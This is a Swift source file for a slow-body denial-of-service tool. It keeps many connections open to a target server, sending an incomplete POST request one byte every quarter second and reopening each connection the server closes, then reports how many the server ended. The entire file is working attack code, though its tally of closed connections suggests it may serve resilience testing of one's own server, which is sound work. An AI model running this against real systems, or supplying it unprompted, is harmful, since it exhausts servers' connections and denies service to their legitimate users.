import Foundation

/// Somebody who sends bodies a byte at a time, on many connections, and begins anew on each that
/// the server closes.
struct SlowBodies {
    private let target: TargetAddress
    /// The time between two bytes.
    private static let pause: Duration = .milliseconds(250)
    /// A request with a body that never gets whole.
    private static let head = Array(
        """
        POST /v1/sessions HTTP/1.1\r
        host: attacked\r
        content-type: application/json\r
        content-length: 16000\r
        \r
        {
        """.utf8)

    /// Finds a server; `nil` if its host is not found.
    init?(at address: String) {
        guard let target = TargetAddress(address) else { return nil }
        self.target = target
    }

    /// A connection, and how much of its head was sent.
    private struct Connection {
        let descriptor: Int32
        var sent = 0
    }

    /// Attacks for some seconds, and returns what became of it.
    func run(_ count: Int, for seconds: Double) async -> String {
        var connections: [Connection] = []
        var (begun, closed) = (0, 0)
        let end = ContinuousClock.now + .seconds(seconds)
        while ContinuousClock.now < end, !Task.isCancelled {
            while connections.count < count, let descriptor = target.connect() {
                connections.append(Connection(descriptor: descriptor))
                begun += 1
            }
            try? await Task.sleep(for: Self.pause)
            connections = connections.compactMap { connection in
                var connection = connection
                if goOn(&connection) { return connection }
                close(connection.descriptor)
                closed += 1
                return nil
            }
        }
        for connection in connections { close(connection.descriptor) }
        return "\(begun) requests with slow bodies, of which the server ended \(closed)"
    }

    /// Sends the next piece; returns whether the connection is still open and not answered.
    private func goOn(_ connection: inout Connection) -> Bool {
        let flags = Int32(MSG_NOSIGNAL) | Int32(MSG_DONTWAIT)
        var byte: UInt8 = 0
        let heard = recv(connection.descriptor, &byte, 1, flags)
        // An answer is the end, too: the server has refused the rest.
        if heard >= 0 || errno != EAGAIN && errno != ENOTCONN { return false }
        let rest = connection.sent < Self.head.count ? Self.head[connection.sent...] : [0x20]
        let sent = rest.withUnsafeBytes {
            send(connection.descriptor, $0.baseAddress, $0.count, flags)
        }
        if sent > 0 { connection.sent += sent }
        return sent > 0 || errno == EAGAIN || errno == ENOTCONN
    }
}
